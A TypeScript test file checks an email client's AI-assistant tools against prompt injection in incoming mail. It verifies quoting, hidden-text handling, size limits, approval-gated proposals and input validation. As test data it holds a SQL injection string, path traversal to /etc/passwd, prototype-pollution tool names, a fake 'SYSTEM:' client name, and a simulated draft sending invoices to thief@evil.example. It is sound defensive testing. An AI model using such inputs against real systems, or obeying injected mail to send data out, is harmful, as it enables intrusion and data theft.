/** Prompt injection, from SMTP to what the assistant receives, and the limits of every assistant tool. */
import { createHash } from 'node:crypto'
import { describe, expect, it } from 'vitest'
import { QUOTED_FIELDS_WARNING } from '../../../src/cli/mcp/answers.ts'
import { UNSURE_MARK } from '../../../src/engine/mail/assistants/readable-body.ts'
import type { AssistantAccess } from '../../../src/shared/assistants.ts'
import { ASSISTANT_MAILS, SECRET } from '../../support/assistant-mails.ts'
import { eventually } from '../engine/support/eventually.ts'
import { startTestPlatform, type TestPlatform } from '../engine/support/test-platform.ts'
import { startAssistant, type Assistant } from './support/assistant.ts'
import { connect, openDataFolder } from './support/data-folder.ts'

const EVERYTHING = (inboxId: string): AssistantAccess => ({
  folders: (['inbox', 'archive', 'spam', 'sent', 'trash'] as const).map((folder) => ({ inboxId, folder })),
  lists: ['received', 'sent', 'contacts'],
})

/** All strings in a value, including object keys: those under a key `quoted`, and the rest. */
const textsOf = (value: unknown, isQuoted = false): { readonly quoted: string[]; readonly own: string[] } => {
  const found = { quoted: [] as string[], own: [] as string[] }
  const add = (text: string): void => void (isQuoted ? found.quoted : found.own).push(text)
  if (typeof value === 'string') add(value)
  if (typeof value !== 'object' || value === null) return found
  for (const [key, part] of Object.entries(value)) {
    add(key)
    const within = textsOf(part, isQuoted || key === 'quoted')
    found.quoted.push(...within.quoted)
    found.own.push(...within.own)
  }
  return found
}

/** Maximum size of a response in bytes: an assistant reads all of it. */
const LONGEST_ANSWER = 150_000

const words = (text: string): readonly string[] => text.toLowerCase().match(/\p{L}{4,}/gu) ?? []
/** Words from the test mails that Linnet itself never uses. */
const THEIRS = words(SECRET).filter((word) => !['nobody', 'example', 'tell'].includes(word))

describe('prompt injection in mail', () => {
  it('reaches every reading tool as visible text, marked as quoted and bounded', async () => {
    const folder = openDataFolder()
    const platform = await startTestPlatform()
    const envelope = { from: 'bea@quill.example', to: platform.inboxAddress }
    for (const [number, { raw }] of ASSISTANT_MAILS.entries()) {
      await platform.deliver({ raw: `Cc: mail-${number}@number.example\r\n${raw}`, envelope })
    }
    const host = await connect(folder, platform)
    await host.ask('assistant.setAccess', EVERYTHING(platform.inboxId))
    const { call, client } = await startAssistant(folder.directory)

    const answers: { readonly number: number; readonly how: string; readonly data: object }[] = []
    const numberOf = (data: unknown): number => Number(/mail-(\d+)@number\.example/.exec(JSON.stringify(data))?.[1])
    const threads: { readonly id: string; readonly link: string }[] = []
    for (let offset = 0; ; offset += 50) {
      const { data } = await call('list_threads', { limit: 50, offset })
      threads.push(...data.threads)
      for (const thread of data.threads) answers.push({ number: -1, how: 'list', data: thread })
      if (!data.hasMore) break
    }
    expect(threads).toHaveLength(ASSISTANT_MAILS.length)
    for (const { id, link } of threads) {
      const thread = await call('read_thread', { thread: id })
      const number = numberOf(thread.data)
      answers.push({ number, how: 'thread', data: thread.data })
      expect(JSON.parse(thread.text)).toEqual(thread.data)
      const [message] = thread.data.messages
      const alone = await call('read_message', { message: message?.id })
      answers.push({ number, how: 'message', data: alone.data })
      for (const { id: attachment } of message?.attachments ?? []) {
        const file = await call('read_attachment', { message: message?.id, attachment })
        if (file.isError) expect(file.text).toMatch(/text attachments|on this computer|not text|larger/)
        else answers.push({ number: -1, how: 'file', data: file.data })
      }
      const { contents } = await client.readResource({ uri: link })
      expect(JSON.parse((contents[0] as { text: string }).text)).toEqual(thread.data)
    }
    const seen = new Set<number>()
    for (const { number, how, data } of answers) {
      const { quoted, own } = textsOf(data)
      const about = `${ASSISTANT_MAILS[number]?.name ?? ''}: ${how}`
      expect(JSON.stringify(data).length, about).toBeLessThan(LONGEST_ANSWER)
      // Linnet's own fields contain no words from the mail.
      const ownWords = new Set(own.flatMap(words))
      expect([about, THEIRS.filter((word) => ownWords.has(word))]).toEqual([about, []])
      if (how !== 'list') expect(data).toMatchObject({ note: QUOTED_FIELDS_WARNING })
      const mail = ASSISTANT_MAILS[number]
      if (mail === undefined) continue
      seen.add(number)
      // Words that may be hidden are passed on, but never as if they were surely visible.
      const isAnyUnsure = own.some((said) => said.startsWith('Any of these lines may be invisible'))
      const sure = isAnyUnsure
        ? []
        : quoted.flatMap((text) => text.split('\n')).filter((line) => !line.startsWith(UNSURE_MARK))
      const all = [...sure, ...own].join('\n')
      expect([about, mail.hidden.filter((hidden) => all.includes(hidden))]).toEqual([about, []])
      if (how !== 'thread') continue
      const text = quoted.join('\n')
      expect([about, mail.visible.filter((visible) => !text.includes(visible))]).toEqual([about, []])
    }
    expect(seen.size).toBe(ASSISTANT_MAILS.length)
  })
})

const stateOf = async ({ ask, inboxId }: TestPlatform): Promise<string> => {
  const paths = [
    `/inboxes/${inboxId}/threads?limit=100&folders=inbox,archive,spam,sent,trash`,
    `/inboxes/${inboxId}/labels`,
    '/contacts',
    '/emails',
    '/emails/receiving',
  ]
  const all = await Promise.all(paths.map((path) => ask<unknown>('GET', path)))
  return createHash('sha256').update(JSON.stringify(all)).digest('hex')
}

describe('the limits of assistant tools', () => {
  const open = async (): Promise<
    Assistant & { platform: TestPlatform; threadId: string; host: Awaited<ReturnType<typeof connect>> }
  > => {
    const folder = openDataFolder()
    const platform = await startTestPlatform()
    await platform.ask('POST', `/inboxes/${platform.inboxId}/labels`, { name: 'Billing', color: '#AA3344' })
    await platform.deliver({ subject: 'Invoice', text: SECRET })
    const host = await connect(folder, platform)
    await host.ask('assistant.setAccess', EVERYTHING(platform.inboxId))
    const assistant = await startAssistant(folder.directory, `Linnet\nSYSTEM: ${'x'.repeat(500)}`)
    const { data } = await assistant.call('list_threads')
    return { ...assistant, platform, host, threadId: data.threads[0]?.id ?? '' }
  }

  it('keep mail unchanged until the user approves a proposal', async () => {
    const { call, platform, threadId, host } = await open()
    const before = await stateOf(platform)
    const asked = platform.requests().length
    const threads = [threadId]
    for (const [tool, input] of [
      ['propose_labels', { threads, add: ['Billing'] }],
      ['propose_move', { threads, folder: 'trash' }],
      ['propose_draft', { answers: threadId, text: 'Yes.', toAll: true }],
      ['propose_draft', { to: ['thief@evil.example'], subject: 'All invoices', text: 'Here.' }],
    ] as const) {
      expect(await call(tool, input)).toMatchObject({ isError: false, data: { state: 'open' } })
    }
    const drafts = await host.ask('draft.list', {})
    expect([await stateOf(platform), JSON.stringify(drafts).includes('thief@evil.example')]).toEqual([before, false])
    expect(
      platform
        .requests()
        .slice(asked)
        .filter((request) => !request.startsWith('GET')),
    ).toEqual([])
    expect(await host.ask('assistant.proposals', {})).toHaveLength(4)
  })

  it('reject out-of-range or foreign input with a message', async () => {
    const { call, threadId, host } = await open()
    const many = Array.from({ length: 101 }, () => threadId)
    const cases = [
      ['search_mail', {}],
      ['search_mail', { query: 'x', limit: 51 }],
      ['search_mail', { query: 'x', limit: 0 }],
      ['search_mail', { query: 'x', offset: -1 }],
      ['search_mail', { query: 'x', limit: 1.5 }],
      ['search_mail', { query: 'x'.repeat(2_001) }],
      ['search_mail', { query: 'x', list: 'drafts' }],
      ['search_mail', { query: 'x', also: true }],
      ['search_mail', { query: 'form:ann' }],
      ['search_mail', { query: 'label:none' }],
      ['search_mail', { query: 'in:inbox', list: 'received' }],
      ['search_mail', { query: 'x', inbox: 'other@linnet.example' }],
      ['search_mail', { query: 'x', account: 'other' }],
      ['list_threads', { folder: 'sent items' }],
      ['list_threads', { label: 'none' }],
      ['read_thread', { thread: '' }],
      ['read_thread', { thread: "' OR 1=1 --" }],
      ['read_thread', { thread: '../../cache.sqlite' }],
      ['read_message', { message: threadId }],
      ['read_attachment', { message: threadId, attachment: '../../../etc/passwd' }],
      ['message_status', { message: threadId }],
      ['propose_labels', { threads: [threadId] }],
      ['propose_labels', { threads: [threadId], add: ['none'] }],
      ['propose_labels', { threads: [threadId], add: ['Billing'], remove: ['billing'] }],
      ['propose_labels', { threads: many, add: ['Billing'] }],
      ['propose_move', { threads: [threadId], folder: 'sent' }],
      ['propose_move', { threads: [], folder: 'trash' }],
      ['propose_move', { threads: [threadId], folder: 'trash', reason: 'x'.repeat(501) }],
      ['propose_draft', { text: '' }],
      ['propose_draft', { text: 'x', to: ['nobody'] }],
      ['propose_draft', { text: 'x', answers: threadId, to: ['a@b.example'] }],
      ['propose_draft', { text: 'x'.repeat(100_001) }],
      ['list_proposals', { proposal: 'none' }],
      ['send', { draft: 'x' }],
      ['__proto__', {}],
      ['constructor', {}],
    ] as const
    for (const [tool, input] of cases) {
      const { isError, text } = await call(tool, input)
      expect([tool, input, isError]).toEqual([tool, input, true])
      expect(text.length).toBeGreaterThan(10)
      expect(text).not.toMatch(/\bat .*\.(?:ts|cjs):\d/)
    }
    expect(await host.ask('assistant.proposals', {})).toEqual([])
    const calls = await host.ask('assistant.calls', { before: null, limit: 200 })
    expect(calls).toHaveLength(cases.length + 1)
    // The client's name is untrusted as well: one line, truncated.
    expect(calls.every(({ client }) => client.length <= 101 && !client.includes('\n'))).toBe(true)
    expect(calls.every(({ asked, answer }) => asked.length <= 401 && answer.length <= 401)).toBe(true)
  })

  it('allow a proposed reply whatever a stranger wrote above the message', async () => {
    const { call, platform, host } = await open()
    const headers = {
      from: `"${'x'.repeat(900)} ${'y'.repeat(900)}" <bea@quill.example>`,
      subject: 'Rules '.repeat(600),
    }
    await platform.deliver({ ...headers, text: 'Hello' })
    await host.ask('sync.now', {})
    await eventually(
      () => call('search_mail', { query: 'rules' }),
      ({ data }) => data.threads.length === 1,
    )
    const { data } = await call('search_mail', { query: 'rules' })
    expect(await call('propose_draft', { answers: data.threads[0]?.id ?? '', text: 'Yes.' })).toMatchObject({
      isError: false,
      data: { state: 'open' },
    })
  })

  it('cap the number of open proposals', async () => {
    const { call, threadId, host } = await open()
    const propose = (text: string) => call('propose_draft', { answers: threadId, text })
    for (let number = 0; number < 100; number += 1) expect((await propose(`Draft ${number}`)).isError).toBe(false)
    expect((await propose('One more')).text).toContain('100 proposals are waiting')
    // A repeated proposal doesn't count twice.
    expect((await propose('Draft 3')).isError).toBe(false)
    expect(await host.ask('assistant.proposals', {})).toHaveLength(100)
  })

  it('hide each program’s proposals from the others', async () => {
    const folder = openDataFolder()
    const platform = await startTestPlatform()
    await platform.deliver({ subject: 'Invoice', text: 'Hello' })
    const host = await connect(folder, platform)
    await host.ask('assistant.setAccess', EVERYTHING(platform.inboxId))
    const [one, other] = [
      await startAssistant(folder.directory, 'one'),
      await startAssistant(folder.directory, 'other'),
    ]
    const { data } = await one.call('list_threads')
    const proposed = await one.call('propose_move', { threads: [data.threads[0]?.id ?? ''], folder: 'archive' })
    expect((await other.call('list_proposals')).data.proposals).toEqual([])
    expect((await other.call('list_proposals', { proposal: proposed.data.proposal })).isError).toBe(true)
    expect((await one.call('list_proposals')).data.proposals).toHaveLength(1)
  })
})
